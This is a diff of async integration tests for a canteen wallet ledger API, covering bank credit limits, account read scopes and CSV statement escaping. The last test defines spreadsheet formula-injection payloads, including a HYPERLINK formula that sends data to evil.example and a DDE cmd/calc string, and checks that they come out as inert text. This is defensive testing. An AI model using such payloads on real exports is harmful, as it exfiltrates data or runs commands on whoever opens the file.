@@ -45,12 +45,26 @@ async def _member(gateway: Gateway, tenant_id: str, number: str) -> str:
     return answer.member.member_id
 
 
+# What the tests' banks may owe: more than any test tops up (the limit's own tests set less).
+BANK_CREDIT_LIMIT_FEN = 10_000_000
+
+
+async def _allow_credit(gateway: Gateway, admin: TenantAccess, bank: TenantAccess,
+                        credit_limit_fen: int = BANK_CREDIT_LIMIT_FEN) -> Any:
+    response = await gateway.http.put(
+        f"/v1/tenants/{admin.tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
+        headers=admin.headers, json={"credit_limit_fen": credit_limit_fen})
+    assert response.status_code == 200, response.text
+    return response.json()
+
+
 async def _accesses(gateway: Gateway) -> tuple[TenantAccess, TenantAccess, TenantAccess]:
-    """A bank (wallets:read wallets:topup), the school's finance office (ledger:admin) and a
-    merchant's back office (statements:read), all in one new tenant."""
+    """A bank (wallets:read wallets:topup) that may owe BANK_CREDIT_LIMIT_FEN, the school's finance
+    office (ledger:admin) and a merchant's back office (statements:read), all in one new tenant."""
     bank = await gateway.tenant_access(scopes=(WALLETS_READ, WALLETS_TOPUP))
     admin = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(LEDGER_ADMIN, WALLETS_READ))
     merchant = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(STATEMENTS_READ,))
+    await _allow_credit(gateway, admin, bank)
     return bank, admin, merchant
 
 
@@ -68,12 +82,14 @@ async def _top_up(gateway: Gateway, bank: TenantAccess, member_id: str, amount_f
 
 
 async def _pay(gateway: Gateway, tenant_id: str, *, merchant_id: str, legs: list[tuple[str, int]],
-               key: str | None = None, device_id: str = "pos-1", key_scope: str = "") -> lpb.PayResponse:
+               key: str | None = None, device_id: str = "pos-1", key_scope: str = "",
+               external_ref: str = "") -> lpb.PayResponse:
     """A payment booked as policy books one (for the client ``key_scope`` names, if any)."""
     return await gateway.ledger_stub.Pay(lpb.PayRequest(  # type: ignore[attr-defined]
         tenant_id=tenant_id, idempotency_key=key or str(uuid.uuid4()), key_scope=key_scope,
         merchant_account_id=merchant_id,
         legs=[lpb.PayLeg(account_id=a, amount_fen=f) for a, f in legs], device_id=device_id,
+        external_ref=external_ref,
     ))
 
 
@@ -166,6 +182,7 @@ async def test_each_bank_client_tops_up_from_its_own_clearing_account(ledger_gat
     gateway = ledger_gateway
     bank_a, admin, _merchant = await _accesses(gateway)
     bank_b = await gateway.tenant_access(tenant_id=bank_a.tenant_id, scopes=(WALLETS_TOPUP,))
+    await _allow_credit(gateway, admin, bank_b)
     member_id = await _member(gateway, bank_a.tenant_id, "W300")
 
     from_a = await _top_up(gateway, bank_a, member_id, 1_000)
@@ -183,7 +200,115 @@ async def test_each_bank_client_tops_up_from_its_own_clearing_account(ledger_gat
     body = clearing.json()
     assert body["purse_kind"] == "bank_clearing" and body["owner_kind"] == "tenant"
     assert body["owner_id"] == bank_a.tenant_id and body["ref"] == bank_a.credentials.client_id
-    assert body["posted_fen"] == -1_500
+    assert body["posted_fen"] == -1_500 and body["credit_limit_fen"] == BANK_CREDIT_LIMIT_FEN
+
+
+async def test_a_bank_tops_up_only_within_the_credit_limit_the_tenant_set(ledger_gateway: Gateway) -> None:
+    """The attack: a bank's clearing account went negative without limit, so its top-ups could
+    create any amount of money. Now a new partner may top up nothing until the tenant sets how
+    much (its prefunding); past that the top-up is refused with a reason and nothing moves."""
+    gateway = ledger_gateway
+    bank = await gateway.tenant_access(scopes=(WALLETS_READ, WALLETS_TOPUP))
+    admin = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(LEDGER_ADMIN,))
+    tenant_id = bank.tenant_id
+    member_id = await _member(gateway, tenant_id, "W350")
+    url = f"/v1/tenants/{tenant_id}/members/{member_id}/top-ups"
+
+    minted = await gateway.http.post(url, headers={**bank.headers, **_key()}, json={"amount_fen": 100_000_000})
+    body = assert_problem(minted, 409, reason="CREDIT_LIMIT_EXCEEDED")
+    assert "credit limit" in body["detail"]
+    own = await gateway.http.get(f"/v1/tenants/{tenant_id}/clearing-account", headers=bank.headers)
+    assert own.status_code == 200, own.text
+    assert (own.json()["credit_limit_fen"], own.json()["posted_fen"]) == (0, 0)
+
+    # The finance office records that the bank prefunded 500.00 CNY.
+    limited = await _allow_credit(gateway, admin, bank, 50_000)
+    assert limited["ref"] == bank.credentials.client_id and limited["credit_limit_fen"] == 50_000
+    await _top_up(gateway, bank, member_id, 30_000)
+    over = await gateway.http.post(url, headers={**bank.headers, **_key()}, json={"amount_fen": 20_001})
+    assert_problem(over, 409, reason="CREDIT_LIMIT_EXCEEDED")
+    await _top_up(gateway, bank, member_id, 20_000)
+    own = (await gateway.http.get(f"/v1/tenants/{tenant_id}/clearing-account", headers=bank.headers)).json()
+    assert (own["posted_fen"], own["available_fen"], own["credit_limit_fen"]) == (-50_000, -50_000, 50_000)
+    balances = await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{member_id}/balances", headers=bank.headers)
+    assert _balance(balances.json()["purses"], "cash")["posted_fen"] == 50_000
+
+    # Not below what it owes; a client the tenant has not granted is not found; the bank itself
+    # cannot raise its own limit.
+    below = await gateway.http.put(
+        f"/v1/tenants/{tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
+        headers=admin.headers, json={"credit_limit_fen": 49_999})
+    assert_problem(below, 409, reason="CREDIT_LIMIT_BELOW_USE")
+    stranger = await gateway.http.put(f"/v1/tenants/{tenant_id}/api-clients/oc_nobody/clearing-account",
+                                      headers=admin.headers, json={"credit_limit_fen": 1})
+    assert_problem(stranger, 404, reason="CLIENT_NOT_FOUND")
+    own_raise = await gateway.http.put(
+        f"/v1/tenants/{tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
+        headers=bank.headers, json={"credit_limit_fen": 10**12})
+    assert_problem(own_raise, 403, reason="INSUFFICIENT_SCOPE")
+
+
+async def test_wallets_read_reaches_member_purses_and_the_callers_own_clearing_account_only(
+        ledger_gateway: Gateway) -> None:
+    """The attack: with only wallets:read a bank read the full history of a canteen's settlement
+    account (every member's payments there) and other partners' clearing accounts. Now a merchant's
+    account needs statements:read (or ledger:admin), the tenant's own accounts ledger:admin, and
+    another partner's clearing account is not found; members' purses and its own clearing account
+    it still reads."""
+    gateway = ledger_gateway
+    bank, admin, _merchant = await _accesses(gateway)
+    tenant_id = bank.tenant_id
+    other_bank = await gateway.tenant_access(tenant_id=tenant_id, scopes=(WALLETS_READ, WALLETS_TOPUP))
+    await _allow_credit(gateway, admin, other_bank)
+    back_office = await gateway.tenant_access(tenant_id=tenant_id, scopes=(WALLETS_READ, STATEMENTS_READ))
+    member_id = await _member(gateway, tenant_id, "W320")
+    write = await _top_up(gateway, bank, member_id, 5_000)
+    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
+    (own_clearing,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] < 0]
+    theirs = await _top_up(gateway, other_bank, member_id, 1_000)
+    (their_clearing,) = [p["account_id"] for p in theirs["transfer"]["postings"] if p["amount_fen"] < 0]
+    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-2", purse_kind="merchant_settlement")
+    funding = await _open(gateway, admin, owner_kind="tenant", owner_id="finance", purse_kind="subsidy_funding",
+                          ref="meal-2027")
+    lunch_key = f"pos-2:{uuid.uuid4()}"
+    bank_scope = client_scope(bank.credentials.client_id)
+    await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key=lunch_key, key_scope=bank_scope)
+    # A free breakfast paid by the tenant alone touches no member's purse (under the bank's key).
+    breakfast_key = f"benefit:{uuid.uuid4()}"
+    await gateway.ledger_stub.Pay(lpb.PayRequest(  # type: ignore[attr-defined]
+        tenant_id=tenant_id, idempotency_key=breakfast_key, key_scope=bank_scope, merchant_account_id=canteen,
+        sponsor=lpb.PayLeg(account_id=funding, amount_fen=300)))
+
+    def account(access: TenantAccess, account_id: str, suffix: str = "") -> Any:
+        return gateway.http.get(f"/v1/tenants/{tenant_id}/accounts/{account_id}{suffix}", headers=access.headers)
+
+    for suffix in ("", "/transfers"):
+        # The member's purse and its own clearing account: yes.
+        assert (await account(bank, cash_id, suffix)).status_code == 200
+        assert (await account(bank, own_clearing, suffix)).status_code == 200
+        # The canteen: statements:read (or ledger:admin) needed.
+        body = assert_problem(await account(bank, canteen, suffix), 403, reason="INSUFFICIENT_SCOPE")
+        assert body["scope"] == STATEMENTS_READ
+        # The tenant's funding account: ledger:admin needed.
+        body = assert_problem(await account(bank, funding, suffix), 403, reason="INSUFFICIENT_SCOPE")
+        assert body["scope"] == LEDGER_ADMIN
+        # Another partner's clearing account: as if it did not exist.
+        assert_problem(await account(bank, their_clearing, suffix), 404, reason="ACCOUNT_NOT_FOUND")
+        assert_problem(await account(back_office, their_clearing, suffix), 404, reason="ACCOUNT_NOT_FOUND")
+        # The back office reads the canteen; the finance office reads everything.
+        assert (await account(back_office, canteen, suffix)).status_code == 200
+        for account_id in (cash_id, own_clearing, their_clearing, canteen, funding):
+            assert (await account(admin, account_id, suffix)).status_code == 200
+
+    # "Did this pay?" answers a transfer that touches what the caller may read, and none other.
+    lookup = f"/v1/tenants/{tenant_id}/payments/lookup"
+    found = await gateway.http.get(lookup, headers=bank.headers, params={"idempotency_key": lunch_key})
+    assert found.status_code == 200 and found.json()["found"] is True
+    hidden = await gateway.http.get(lookup, headers=bank.headers, params={"idempotency_key": breakfast_key})
+    assert_problem(hidden, 404, reason="TRANSFER_NOT_FOUND")
+    # And a key is its client's own: the finance office does not even find the bank's.
+    elsewhere = await gateway.http.get(lookup, headers=admin.headers, params={"idempotency_key": breakfast_key})
+    assert elsewhere.status_code == 200 and elsewhere.json() == {"found": False, "transfer": None}
 
 
 async def test_a_member_identity_does_not_know_is_not_found(ledger_gateway: Gateway) -> None:
@@ -508,6 +633,48 @@ async def test_a_merchant_downloads_the_day_as_csv_with_its_totals(ledger_gatewa
     assert_problem(both, 400, reason="STATEMENT_SUBJECT_REQUIRED")
     assert_problem(await gateway.http.get(url, headers=merchant.headers, params={**query, "date": "26.11.2026"}),
                    422, reason="VALIDATION_FAILED")
+
+
+HOSTILE_REF = '=HYPERLINK("https://evil.example/?"&A2,"refund")'
+HOSTILE_KEY = "@SUM(1+1)*cmd|'/Ccalc'!A0"
+HOSTILE_DEVICE = "+pos-9"
+
+
+async def test_text_partners_sent_comes_back_inert_in_the_statement_and_amounts_stay_numbers(
+        ledger_gateway: Gateway) -> None:
+    """The attack: a payment's external_ref (and key, and device id) written as a formula came
+    back live in the merchant's CSV. Now each such cell is text with a leading apostrophe; the
+    refund's -500, a number the ledger computed, is not touched."""
+    gateway = ledger_gateway
+    bank, admin, merchant = await _accesses(gateway)
+    tenant_id = bank.tenant_id
+    member_id = await _member(gateway, tenant_id, "W750")
+    write = await _top_up(gateway, bank, member_id, 5_000)
+    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
+    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-9", purse_kind="merchant_settlement")
+    paid = (await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key=HOSTILE_KEY,
+                       device_id=HOSTILE_DEVICE, external_ref=HOSTILE_REF)).transfer
+    refund = await gateway.http.post(f"/v1/tenants/{tenant_id}/payments/{paid.transfer_id}/refunds",
+                                     headers={**admin.headers, "Idempotency-Key": "-1+1"},
+                                     json={"amount_fen": 500, "external_ref": "-cold soup"})
+    assert refund.status_code == 201, refund.text
+
+    statement = await gateway.http.get(f"/v1/tenants/{tenant_id}/statements", headers=merchant.headers, params={
+        "merchant_account_id": canteen, "date": datetime.now(SHANGHAI).date().isoformat()})
+    assert statement.status_code == 200, statement.text
+    raw = statement.text.splitlines()
+    for line in raw[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line
+            assert not cell.startswith("-") or cell == "-500", line
+    by_kind = {line["kind"]: line for line in csv.DictReader(io.StringIO(statement.text))}
+    assert by_kind["payment"]["external_ref"] == "'" + HOSTILE_REF
+    assert by_kind["payment"]["idempotency_key"] == "'" + HOSTILE_KEY
+    assert by_kind["payment"]["device_id"] == "'" + HOSTILE_DEVICE
+    assert (by_kind["refund"]["external_ref"], by_kind["refund"]["idempotency_key"]) == ("'-cold soup", "'-1+1")
+    # The amounts are bare numbers in the file: the refund's line holds ,-500, unquoted.
+    (refund_line,) = [line for line in raw if refund.json()["transfer"]["transfer_id"] in line]
+    assert ",-500," in refund_line and ",1200," in next(line for line in raw if paid.transfer_id in line)
 
 
 # --- configuration, readiness and the not-yet-implemented ----------------------------------------
